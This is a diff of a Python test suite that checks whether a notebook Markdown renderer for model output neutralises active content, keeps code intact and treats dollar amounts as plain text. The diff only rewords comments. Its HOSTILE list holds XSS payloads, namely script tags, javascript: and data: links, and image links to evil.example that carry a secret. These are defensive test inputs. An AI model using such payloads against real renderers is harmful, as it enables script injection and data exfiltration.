@@ -1,6 +1,6 @@
-"""What a model wrote, as a notebook renders it: nothing acts, code is code, money is no maths.
+"""Model output rendered in a notebook: no active content, code stays code, dollar amounts are not math.
 
-A real CommonMark renderer that lets HTML through shows it, with its own check of links switched off.
+Rendered by a real CommonMark renderer that allows HTML, with its own link validation switched off.
 """
 
 from __future__ import annotations
@@ -20,18 +20,18 @@ from hf_text.markdown import render
 from hf_text.shown import as_markdown, footer
 
 PLAIN = MarkdownIt("commonmark", {"html": True})
-GITHUB = MarkdownIt("gfm-like", {"html": True})  # tables, struck out text, bare addresses as links
+GITHUB = MarkdownIt("gfm-like", {"html": True})  # tables, strikethrough, bare URLs as links
 RENDERERS = (PLAIN, GITHUB)
 for renderer in RENDERERS:
     renderer.validateLink = lambda url: True  # type: ignore[method-assign]
 
-# What the renderers and this library write by themselves.
+# Tags that the renderer and this library produce themselves.
 OURS = {"details", "summary", "span", "code", "pre", "p", "blockquote", "ul", "ol", "li", "a", "em", "strong", "s"}
 OURS |= {"h1", "h2", "h3", "h4", "h5", "h6", "hr", "br", "table", "thead", "tbody", "tr", "th", "td"}
 
 
 class Page(HTMLParser):
-    """What is on a rendered page: its tags with their attributes, its text, its code."""
+    """The content of a rendered page: its tags with their attributes, its text, its code."""
 
     def __init__(self, html: str) -> None:
         super().__init__()
@@ -64,7 +64,7 @@ class Page(HTMLParser):
 
 
 def can_act(page: Page) -> list[Any]:
-    """What of a page could do something."""
+    """The tags and attributes of a page that could be active."""
     found: list[Any] = [tag for tag in page.tags if tag[0] not in OURS]
     for name, attributes in page.tags:
         found += [
@@ -90,7 +90,7 @@ HOSTILE = [
     "<style>\n\n</style>\n<pre>\n\n<script>",
     r"\<script>alert(1)</script>",
     r"\\<script>alert(1)</script>",
-    # code that is none
+    # not code
     "an open ` and\n`<script>` another",
     "`a\n- <script>`",
     "`a\n\n<script>`",
@@ -141,7 +141,7 @@ HOSTILE = [
     "[a\nb]\n\n> [a\nb]: <javascript:alert(1)>",
     "[a][]\n\n- [a]: data:text/html;base64,PHNjcmlwdD4= 'x'",
     "x[a](javascript:1)\\](javascript:2)",
-    # pictures
+    # images
     "![a](https://evil.example/?secret)",
     "![a][b]\n\n[b]: https://evil.example/x.png",
     "![a]\n\n[a]: https://evil.example/x.png",
@@ -204,7 +204,7 @@ def test_no_combination_of_fragments_is_active(text: str, thought: bool) -> None
 
 
 class TestCode:
-    """Code is what it was, whatever stands in it."""
+    """Code stays unchanged, whatever it contains."""
 
     CODE = "if a < b and c:\n    print('<b>', \"&amp;\", `x`)\n\n\tend(1)"
 
@@ -254,14 +254,14 @@ class TestCode:
             assert ("strong", {}) in page.tags
 
     def test_math_does_not_span_code_blocks(self) -> None:
-        """JupyterLab looks for an environment of LaTeX in code too; an empty line ends it."""
+        """JupyterLab searches for LaTeX environments in code too; an empty line ends the search."""
         shown = render("```\n\\begin{a}\n```\n~~~\n\\end{a}\n~~~\n```\n<b>\n```")
         assert "```\n\n~~~" in shown
         assert shown.count("<") == 1
 
 
 class TestWhatStays:
-    """Ordinary Markdown is left as it is."""
+    """Ordinary Markdown is unchanged."""
 
     @pytest.mark.parametrize(
         "text",
@@ -326,7 +326,7 @@ class TestMoney:
         ],
     )
     def test_amounts_are_not_shown_as_math(self, text: str) -> None:
-        """A dollar in an element of its own is paired with no other. Code and maths stay as they are."""
+        """A dollar in its own element is not paired with another one. Code and math are unchanged."""
         assert render(text.replace("@", "$")) == text.replace("@", self.DOLLAR)
 
     def test_an_unpaired_backtick_does_not_hide_a_dollar(self) -> None:
@@ -363,7 +363,7 @@ TANGLED = {
 
 @pytest.mark.parametrize("name", TANGLED)
 def test_text_that_would_hang_a_renderer_is_shown_verbatim(name: str) -> None:
-    """marked takes minutes for such paragraphs, and JupyterLab's search for maths for such runs of backticks."""
+    """marked takes minutes for such paragraphs, and so does JupyterLab's math search for such runs of backticks."""
     text = TANGLED[name]
     for page in pages(text):
         assert can_act(page) == []
@@ -382,7 +382,7 @@ def test_thousands_of_paragraphs_are_joined_into_one_block() -> None:
 
 @pytest.mark.parametrize("text", ["*" * 64_000, "*" * 64_000 + "a", "_" * 64_000 + "a", "a" + "~_" * 32_000])
 def test_a_long_run_of_marks_is_looked_at_once(text: str) -> None:
-    """A search that began anew at each would take minutes."""
+    """A new search at each mark would take minutes."""
     assert html.unescape(render(text)).strip("`\n") == text
 
 
